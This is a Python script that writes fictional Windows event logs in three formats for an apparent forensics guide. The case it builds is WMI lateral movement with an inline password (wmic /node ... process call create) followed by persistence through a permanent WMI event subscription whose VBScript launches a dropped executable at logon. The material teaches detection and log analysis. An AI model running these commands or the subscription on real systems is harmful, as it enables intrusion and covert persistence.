"""Writes the logs of the guide's case beside this script: `python3 examples/case/make.py`.

Nothing in them is real. One user runs a command over WMI on three computers; one of them refuses it, another keeps a
subscription that runs a script. Each log is in another form, as the logs of a case are: `wevtutil qe` (XML), Winlogbeat 8
(JSON Lines), and NXLog, which writes local times without a zone.
"""

import json
import pathlib
from datetime import datetime, timedelta, timezone
from xml.sax.saxutils import escape

HERE = pathlib.Path(__file__).parent
SECURITY = ("Microsoft-Windows-Security-Auditing", "54849625-5478-4994-a5ba-3e3b0328c30d")
ACTIVITY = ("Microsoft-Windows-WMI-Activity", "1418ef04-b0b4-4623-bf7e-d74ab47bbdaa")
START = datetime(2026, 5, 12, 6, 30, tzinfo=timezone.utc)
DOMAIN_SID = "S-1-5-21-3100100100-2200200200-1300300300"
MARA = (f"{DOMAIN_SID}-1604", "mara", "ACME", "0x9f3a1")
ADMIN = (f"{DOMAIN_SID}-1122", "svc-deploy", "ACME", "0x4c0d2e")
NETWORK_SERVICE = ("S-1-5-20", "{}$", "ACME", "0x3e4")
SYSTEM = ("S-1-5-18", "{}$", "ACME", "0x3e7")
NOBODY = ("S-1-0-0", "-", "-", "0x0")
AUTHORITIES = [int(number) for number in ADMIN[0].split("-")[3:]]
SID_BYTES = [1, len(AUTHORITIES), 0, 0, 0, 0, 0, 5, *(byte for number in AUTHORITIES for byte in number.to_bytes(4, "little"))]
SID_BYTES = "{" + ", ".join(map(str, SID_BYTES)) + "}"

SCRIPT = r"""Set shell = CreateObject("WScript.Shell")
Set log = CreateObject("Scripting.FileSystemObject").OpenTextFile("C:\ProgramData\Spool\t.log", 8, True)
log.WriteLine Now & " " & TargetEvent.TargetInstance.Name
shell.Run "cmd.exe /c C:\ProgramData\Spool\upd.exe --quiet", 0, False"""

DROP = r"cmd.exe /c \\WKS12\tools$\upd.exe --quiet"
SOURCE = rf'wmic  /node:@C:\Users\mara\h.txt /user:ACME\svc-deploy /password:Spring2026! process call create "{DROP}"'


def process(minute, user, image, pid, parent, parent_pid, line, target=NOBODY, label="S-1-16-8192", host=""):
    names = ("SubjectUserSid", "SubjectUserName", "SubjectDomainName", "SubjectLogonId")
    data = dict(zip(names, user))
    data |= {"NewProcessId": hex(pid), "NewProcessName": image, "TokenElevationType": "%%1936", "ProcessId": hex(parent_pid)}
    data |= {"CommandLine": line}
    data |= dict(zip(("TargetUserSid", "TargetUserName", "TargetDomainName", "TargetLogonId"), target))
    data |= {"ParentProcessName": parent, "MandatoryLabel": label}
    data["SubjectUserName"] = data["SubjectUserName"].format(host)
    return minute, 4688, data


def failure(minute, machine, user, pid, operation, code):
    data = {"Id": "{5f3f5c4b-5c67-0000-1c7a-525f675cdc01}", "ClientMachine": machine, "User": user, "ClientProcessId": str(pid)}
    data |= {"Component": "Unknown", "Operation": operation, "ResultCode": code, "PossibleCause": "Unknown"}
    return minute, 5858, data


def provider(minute, pid):
    path = r"%systemroot%\system32\wbem\cimwin32.dll"
    data = {"ProviderName": "CIMWin32", "Code": "0x0", "HostProcess": "wmiprvse.exe", "ProcessID": str(pid), "ProviderPath": path}
    return minute, 5857, data


def wmi_child(minute, host, image, pid, host_pid, line, target):
    user = NETWORK_SERVICE
    parent = r"C:\Windows\System32\wbem\WmiPrvSE.exe"
    return process(minute, user, image, pid, parent, host_pid, line, target, "S-1-16-12288", host)


def binding(minute):
    text = "".join(f"\\n{line}" for line in [SCRIPT.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\r\\n")])[2:]
    cause = f"""Binding EventFilter: 
instance of __EventFilter
{{
\tCreatorSID = {SID_BYTES};
\tEventNamespace = "root\\\\cimv2";
\tName = "SpoolerState";
\tQuery = "SELECT * FROM __InstanceCreationEvent WITHIN 30 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 2";
\tQueryLanguage = "WQL";
}};
Perm. Consumer: 
instance of ActiveScriptEventConsumer
{{
\tCreatorSID = {SID_BYTES};
\tName = "SpoolerState";
\tScriptingEngine = "VBScript";
\tScriptText = "{text}";
}};
"""
    data = {"Namespace": "//./root/subscription", "ESS": "SpoolerState", "CONSUMER": 'ActiveScriptEventConsumer="SpoolerState"'}
    return minute, 5861, data | {"PossibleCause": cause}


CMD = r"C:\Windows\System32\cmd.exe"
EXPLORER = r"C:\Windows\explorer.exe"
WMIC = r"C:\Windows\System32\wbem\WMIC.exe"
SVCHOST = r"C:\Windows\System32\svchost.exe"
SERVICES = r"C:\Windows\System32\services.exe"
WMIPRVSE = r"C:\Windows\System32\wbem\WmiPrvSE.exe"
SCRCONS = r"C:\Windows\System32\wbem\scrcons.exe"


def noise(host, first):
    """What any Windows logs: services, and queries that find nothing."""
    for number in range(12):
        pid = 3000 + 4 * number + first
        line = SVCHOST + " -k netsvcs -p -s Schedule"
        yield process(first + 9.3 * number, SYSTEM, SVCHOST, pid, SERVICES, 772, line, NOBODY, "S-1-16-16384", host)
    for number in range(8):
        operation = rf"Start IWbemServices::DeleteInstance - Root\Rsop\Computer : RSOP_ExtensionStatus.extensionGuid=\"{{{number:08X}-683F-11D2-A89A-00C04FBBCFA2}}\""
        yield failure(first + 11.7 * number, host, r"NT AUTHORITY\SYSTEM", 1240, operation, "0x80041002")


WKS12 = [
    *noise("WKS12", 1),
    process(61.5, MARA, CMD, 7412, EXPLORER, 5120, f'"{CMD}"'),
    process(62.1, MARA, WMIC, 8044, CMD, 7412, SOURCE),
    process(64.9, MARA, WMIC, 8112, CMD, 7412, r"wmic  /node:FILE01 process get caption"),
]
FILE01 = [
    *noise("FILE01", 3),
    provider(62.105, 2884),
    wmi_child(62.11, "FILE01", CMD, 5300, 2884, DROP, ADMIN),
    process(62.12, ADMIN, r"\\WKS12\tools$\upd.exe", 5344, CMD, 5300, r"\\WKS12\tools$\upd.exe --quiet", NOBODY, "S-1-16-12288"),
    binding(66.4),
    (66.41, 5859, {"NamespaceName": "//./root/CIMV2", "Query": "SELECT * FROM __InstanceCreationEvent WITHIN 30 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 2", "User": ADMIN[0], "Processid": "1240", "Provider": "CIMWin32", "queryid": "0", "PossibleCause": "Permanent"}),
    process(102.0, SYSTEM, SCRCONS, 6020, SVCHOST, 904, SCRCONS + " -Embedding", NOBODY, "S-1-16-16384", "FILE01"),
    process(102.2, SYSTEM, CMD, 6064, SCRCONS, 6020, r"cmd.exe /c C:\ProgramData\Spool\upd.exe --quiet", NOBODY, "S-1-16-16384", "FILE01"),
]
FILE02 = [*noise("FILE02", 2), wmi_child(62.13, "FILE02", CMD, 4980, 3120, DROP, ADMIN)]
APP03 = [
    *noise("APP03", 5),
    failure(62.15, "WKS12", r"ACME\svc-deploy", 8044, r"Start IWbemServices::ExecMethod - ROOT\CIMV2 : Win32_Process::Create", "0x80041003"),
]
ELEMENTS = {5857: "Operation_StartedOperational", 5858: "Operation_ClientFailure", 5859: "Operation_EssStarted", 5861: "Operation_ESStoConsumerBinding"}


def events(host, log):
    """The events of a computer in time order, each with its time, record ID, ID and data; channels count for themselves."""
    records = {"Security": 51000, "Microsoft-Windows-WMI-Activity/Operational": 900}
    for minute, event_id, data in sorted(log, key=lambda event: event[0]):
        channel = "Security" if event_id == 4688 else "Microsoft-Windows-WMI-Activity/Operational"
        records[channel] += 1
        yield START + timedelta(minutes=minute), records[channel], event_id, channel, data


def xml(host, log, name):
    lines = []
    for time, record, event_id, channel, data in events(host, log):
        provider, guid = SECURITY if event_id == 4688 else ACTIVITY
        stamp = time.strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"
        version = 2 if event_id == 4688 else 0
        head = f"<Provider Name='{provider}' Guid='{{{guid}}}'/><EventID>{event_id}</EventID><Version>{version}</Version><Level>0</Level><Task>0</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='{stamp}'/><EventRecordID>{record}</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='212'/><Channel>{channel}</Channel><Computer>{host}.acme.example</Computer><Security/>"
        if event_id == 4688:
            body = "".join(f"<Data Name='{key}'>{escape(value)}</Data>" for key, value in data.items())
            body = f"<EventData>{body}</EventData>"
        else:
            body = "".join(f"<{key}>{escape(value)}</{key}>" for key, value in data.items())
            element = ELEMENTS[event_id]
            body = f"<UserData><{element} xmlns='http://manifests.microsoft.com/win/2006/windows/WMI'>{body}</{element}></UserData>"
        lines.append(f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>{head}</System>{body}</Event>\n")
    (HERE / name).write_text("".join(lines), newline="")


def winlogbeat(host, log, name):
    lines = []
    for time, record, event_id, channel, data in events(host, log):
        provider, guid = SECURITY if event_id == 4688 else ACTIVITY
        line = {
            "@timestamp": time.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
            "agent": {"type": "winlogbeat", "version": "8.17.0"},
            "event": {"code": str(event_id), "kind": "event", "provider": provider},
            "host": {"name": f"{host}.acme.example"},
            "winlog": {"api": "wineventlog", "channel": channel, "computer_name": f"{host}.acme.example", "event_id": str(event_id), "provider_guid": f"{{{guid}}}", "provider_name": provider, "record_id": record},
        }
        line["winlog"]["event_data" if event_id == 4688 else "user_data"] = data
        if event_id == 4688:
            line["winlog"]["version"] = 2
        lines.append(json.dumps(line) + "\n")
    (HERE / name).write_text("".join(lines))


def nxlog(host, log, name):
    lines = []
    for time, record, event_id, channel, data in events(host, log):
        provider, guid = SECURITY if event_id == 4688 else ACTIVITY
        # The computer's clock, two hours ahead of UTC; NXLog writes no zone.
        local = (time + timedelta(hours=2)).strftime("%Y-%m-%d %H:%M:%S")
        line = {"EventTime": local, "Hostname": f"{host}.acme.example", "EventType": "AUDIT_SUCCESS", "EventID": event_id, "SourceName": provider, "ProviderGuid": f"{{{guid}}}", "Version": 2 if event_id == 4688 else 0, "RecordNumber": record, "Channel": channel}
        lines.append(json.dumps(line | data | {"EventReceivedTime": local, "SourceModuleType": "im_msvistalog"}) + "\n")
    (HERE / name).write_text("".join(lines))


xml("WKS12", WKS12, "WKS12.xml")
winlogbeat("FILE01", FILE01, "FILE01-winlogbeat.jsonl")
nxlog("FILE02", FILE02, "FILE02-nxlog.jsonl")
xml("APP03", APP03, "APP03.xml")
